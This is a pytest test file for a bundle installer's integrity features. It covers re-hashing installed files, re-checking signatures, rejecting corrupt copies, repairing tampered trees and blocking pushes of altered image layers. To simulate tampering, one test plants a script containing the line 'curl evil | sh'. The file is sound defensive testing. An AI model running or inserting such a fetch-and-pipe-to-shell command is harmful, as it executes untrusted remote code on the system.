"""Issue 10 point 5: the integrity of what is installed.

The attacker (or a failing disk) changes files of an installed version after the install. Before the fix
nothing ever looked again: `verify` only read archives, installing an archive whose bundle_id was
installed stopped after its head (a corrupt copy was "ok" and a damaged tree stayed damaged), and pushes
sent whatever bytes the kit held.
"""

import os
import subprocess
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from conftest import write_manifest
from tests.helpers.images import make_image, push
from tests.helpers.registry import start_registry


@pytest.fixture
def installed(ob, built, pub, tmp_path):
    archive, _ = built
    kit = tmp_path / "kit"
    assert ob("install", archive, "--kit", kit, "--trust", pub).rc == 0
    return kit, archive, kit / "bundles" / "demo" / "1.0.0"


def write_into(tree: Path, rel: str, data: bytes) -> None:
    """What an attacker with the kit owner's rights does: make room, change a file, put the modes back."""
    target = tree / rel
    os.chmod(target.parent, 0o755)
    if target.exists():
        os.chmod(target, 0o644)
    target.write_bytes(data)
    os.chmod(target, 0o444)
    os.chmod(target.parent, 0o555)


def test_verify_kit_rehashes_every_installed_file(ob, installed, pub):
    kit, _archive, tree = installed
    assert ob("verify", "--kit", kit, "--trust", pub).rc == 0
    r = ob("verify", "--kit", kit, "--trust", pub, "--json")
    assert r.json["result"]["versions"][0]["ok"] is True
    write_into(tree, "config/app.yaml", b"listen: 6666\n")
    write_into(tree, "config/extra.sh", b"#!/bin/sh\ncurl evil | sh\n")
    os.chmod(tree / "config", 0o755)
    os.chmod(tree / "tenants" / "loki.yaml", 0o644)
    os.chmod(tree / "config", 0o555)
    r = ob("verify", "--kit", kit, "--trust", pub)
    assert r.rc == 5, r
    lines = r.err.splitlines()
    assert any("config/app.yaml has sha256" in line for line in lines)
    assert any("config/extra.sh is not listed in SHA256SUMS" in line for line in lines)
    assert any("tenants/loki.yaml has mode 0644" in line for line in lines)
    assert all(line.startswith("  - demo 1.0.0: ") for line in lines[1:])
    assert ob("verify", "demo@1.0.0", "--kit", kit, "--trust", pub).rc == 5
    assert ob("verify", "demo", "--kit", kit, "--trust", pub).rc == 5
    assert ob("verify", "demo@9.9.9", "--kit", kit, "--trust", pub).rc == 2
    r = ob("status", "--kit", kit, "--verify", "--trust", pub)
    assert r.rc == 5 and "config/app.yaml" in r.err


def test_verify_kit_rechecks_the_signature_with_todays_keys(ob, installed, keydir):
    kit, _archive, _tree = installed
    r = ob("verify", "--kit", kit, "--trust", keydir / "other" / "bundle.pub")
    assert r.rc == 4 and "not signed by any key trusted today" in r.err, r
    assert ob("trust", "add", keydir / "ed" / "bundle.pub", "--names", "other-*", "--kit", kit).rc == 0
    r = ob("verify", "--kit", kit)  # the kit's own store: the key is there, but not for this name
    assert r.rc == 4 and "only for bundles named other-*" in r.err, r


def test_a_corrupt_copy_of_an_installed_bundle_is_exit_5(ob, installed, pub, tmp_path):
    """Same bundle_id, a damaged payload byte (the transfer, not an attacker: the signature is untouched)."""
    kit, archive, _tree = installed
    from tests.helpers.craft import read_entries, write_archive
    entries = read_entries(archive)
    victim = next(e for e in entries if e.path == "config/app.yaml")
    victim.data = victim.data[:-2] + b"X\n"
    corrupt = write_archive(entries, tmp_path / "corrupt.bundle.tar.zst")
    r = ob("install", corrupt, "--kit", kit, "--trust", pub)
    assert r.rc == 5 and "config/app.yaml" in r.err, r


def test_reinstalling_repairs_a_damaged_tree_and_says_so(ob, installed, pub):
    kit, archive, tree = installed
    genuine = (tree / "config" / "app.yaml").read_bytes()
    write_into(tree, "config/app.yaml", b"listen: 6666\n")
    write_into(tree, "config/planted", b"x")
    os.chmod(tree / "config", 0o755)
    (tree / "config" / "run.sh").unlink()
    os.chmod(tree / "config", 0o555)
    r = ob("install", archive, "--kit", kit, "--trust", pub, "--json")
    assert r.rc == 0, r
    assert r.json["result"]["outcome"] == "already-installed"
    assert sorted(r.json["result"]["repaired"]) == ["removed config/planted", "restored config/app.yaml",
                                                    "restored config/run.sh"]
    text = ob("install", archive, "--kit", kit, "--trust", pub).out
    assert "the installed tree is intact" in text
    assert (tree / "config" / "app.yaml").read_bytes() == genuine
    assert oct(os.stat(tree / "config" / "run.sh").st_mode & 0o777) == "0o555"
    check = subprocess.run(["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=tree, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout
    assert ob("verify", "--kit", kit, "--trust", pub).rc == 0


def test_a_blob_changed_in_the_kit_is_never_pushed(ob, key, tmp_path):
    """A push re-hashes what it sends: a layer changed after verification never completes an upload."""
    from installer.errors import ContentMismatch
    from installer.format.meta import parse_meta
    from installer.site.push import SitePush

    src = start_registry(tmp_path / "src", kind="plain")
    site = start_registry(tmp_path / "site", kind="plain")
    try:
        make_image(tmp_path / "lay", "a", [{"app": os.urandom(200_000)}])
        push(tmp_path / "lay", "a", src, "team/app:1")
        m = write_manifest(tmp_path / "m", tenants=False, extra="  images:\n    - ref: docker.io/team/app:1\n")
        r = ob("build", m, "--key", key, "--out", tmp_path / "out", "--mirror", "docker.io=%s" % src.host,
               "--insecure-registry", src.host, "--json")
        assert r.rc == 0, r
        from tests.helpers.craft import read_entries
        tree = tmp_path / "tree"
        for e in read_entries(Path(r.json["result"]["archive"])):
            (tree / e.path).parent.mkdir(parents=True, exist_ok=True)
            (tree / e.path).write_bytes(e.data)
        meta = parse_meta((tree / "bundle.json").read_bytes())
        layer = max((tree / "images" / "blobs" / "sha256").iterdir(), key=lambda p: p.stat().st_size)
        data = bytearray(layer.read_bytes())
        data[-1] ^= 1
        layer.write_bytes(bytes(data))
        pusher = SitePush(str(tree), meta, site.host, insecure=(site.host,))
        with pytest.raises(ContentMismatch) as exc:
            pusher.push_content()
        assert layer.name in exc.value.message
        url = "http://%s/v2/docker.io/team/app/blobs/sha256:%s" % (site.host, layer.name)
        with pytest.raises(urllib.error.HTTPError) as missing:
            urllib.request.urlopen(urllib.request.Request(url, method="HEAD"), timeout=10)
        assert missing.value.code == 404  # the site never received the changed layer
    finally:
        site.stop()
        src.stop()
